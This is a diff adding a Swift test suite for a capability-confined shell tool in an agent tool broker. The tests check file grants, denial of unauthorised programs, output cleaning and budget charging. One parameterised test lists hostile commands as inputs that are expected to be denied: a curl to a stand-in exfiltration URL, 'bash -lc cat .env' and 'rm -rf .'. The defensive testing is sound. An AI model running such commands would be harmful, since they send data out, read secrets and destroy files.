@@ -1,0 +1,102 @@
+internal import CapabilityLanguage
+internal import LibOSModel
+internal import LinuxPrimitives
+internal import SQLiteRuntimeStore
+internal import SandboxTestSupport
+internal import StrictJSON
+internal import Testing
+internal import ToolBroker
+
+/// Command tools: confined to what their arguments were granted, and told as they ended.
+@Suite struct CommandToolTests {
+    private func run(_ fixture: BrokerFixture, _ argv: [String], read: [String]? = nil, write: [String] = []) async throws -> ToolCallResult
+    {
+        var members = [JSONMember("argv", .strings(argv)), JSONMember("write", .strings(write))]
+        if let read { members.append(JSONMember("read", .strings(read))) }
+        return try await fixture.call("run_shell_command", JSONValue.object(members).canonicalText)
+    }
+
+    @Test(.timeLimit(.minutes(1))) func `a program by name, with exactly the files that were named`() async throws {
+        try await BrokerFixture.with { fixture in
+            try fixture.sandbox.directory("src")
+            try fixture.sandbox.file("src/a", "A")
+            try fixture.sandbox.file("src/b", "B")
+            try await fixture.grant("shell:cat", [.execute])
+            try await fixture.grant("shell:ls", [.execute])
+            try await fixture.grant("filesystem:workspace:*", [.read, .write, .delete])
+            let seen = try await run(fixture, ["cat", "src/a", "src/b"], read: ["src/a"])
+            #expect(seen.isOK, "\(seen)")
+            #expect(seen.payload["stdout"] == .string("A") && seen.payload["returncode"] == .int(1))
+            #expect(seen.payload["stderr"]?.canonicalText.contains("src/b") == true)
+            let listed = try await run(fixture, ["ls", "-R", "."], read: ["src/b"])
+            #expect(listed.payload["stdout"] == .string(".:\nsrc\n\n./src:\nb\n"), "\(listed)")
+            #expect(try await fixture.calls(.completed).count == 2)
+        }
+    }
+
+    @Test(.timeLimit(.minutes(1))) func `what may be read may not be written`() async throws {
+        try await BrokerFixture.with { fixture in
+            try fixture.sandbox.file("a", "A")
+            try await fixture.grant("shell:cp", [.execute])
+            try await fixture.grant("filesystem:workspace:*", [.read, .write, .delete])
+            let refused = try await run(fixture, ["cp", "/etc/os-release", "a"], read: ["a"])
+            #expect(refused.payload["returncode"] != .int(0))
+            #expect(try HostFile.text(fixture.sandbox.path("a")) == "A")
+            let done = try await run(fixture, ["cp", "/etc/os-release", "a"], read: [], write: ["a"])
+            #expect(done.payload["returncode"] == .int(0), "\(done)")
+            #expect(try HostFile.text(fixture.sandbox.path("a")) != "A")
+        }
+    }
+
+    @Test(
+        .timeLimit(.minutes(1)),
+        arguments: [
+            (["curl", "https://example.invalid/exfiltrate"], "shell:curl"), (["bash", "-lc", "cat .env"], "shell:bash"),
+            (["rm", "-rf", "."], "shell:rm"), (["/usr/bin/env", "bash"], "shell:/usr/bin/env"),
+        ])
+    func `a program without authority does not start`(argv: [String], resource: String) async throws {
+        try await BrokerFixture.with { fixture in
+            try fixture.sandbox.file("a", "A")
+            try await fixture.grant("filesystem:workspace:*", [.read, .write, .delete])
+            try await fixture.grant("shell:git", [.execute])
+            let result = try await run(fixture, argv)
+            #expect(result.decision == .deny && result.denial?.layer == .capability)
+            #expect(result.error?.contains(resource) == true, "\(result)")
+            #expect(HostFile.exists(fixture.sandbox.path("a")))
+            #expect(try await fixture.audit("external_effect.intent").isEmpty)
+        }
+    }
+
+    @Test(.timeLimit(.minutes(1))) func `a program that is not there gives its one use back`() async throws {
+        try await BrokerFixture.with { fixture in
+            let record = try await fixture.grant("shell:no-such-program", [.execute], uses: 1)
+            try await fixture.grant("filesystem:workspace:*", [.read])
+            let result = try await run(fixture, ["no-such-program"])
+            #expect(!result.isOK, "\(result)")
+            #expect(try await fixture.capability(record.id)?.usesRemaining == 1)
+        }
+    }
+
+    @Test(.timeLimit(.minutes(1))) func `output is cut, cleaned, and never more than the limit`() async throws {
+        try await BrokerFixture.with { fixture in
+            try await fixture.grant("shell:printf", [.execute])
+            try await fixture.grant("filesystem:workspace:*", [.read])
+            let result = try await run(fixture, ["printf", "\\033[31mred\\007\\377"])
+            #expect(result.payload["stdout"]?.canonicalText.contains("\u{1B}") == false)
+            #expect(result.isOK, "\(result)")
+        }
+    }
+
+    @Test(.timeLimit(.minutes(1))) func `what a run used is charged, and an empty budget stays empty`() async throws {
+        try await BrokerFixture.with { fixture in
+            try await fixture.grant("shell:true", [.execute])
+            try await fixture.grant("filesystem:workspace:*", [.read])
+            try await fixture.change { $0.budget[.subprocessWallMilliseconds] = 1 }
+            _ = try await run(fixture, ["true"])
+            let (store, id) = (fixture.store, fixture.process)
+            let process = try await store.read { reading throws(LibOSError) in try reading.existingProcess(id) }
+            #expect(process.usage[.subprocessWallMilliseconds] <= 1)
+            #expect(process.usage[.toolCalls] == 1)
+        }
+    }
+}
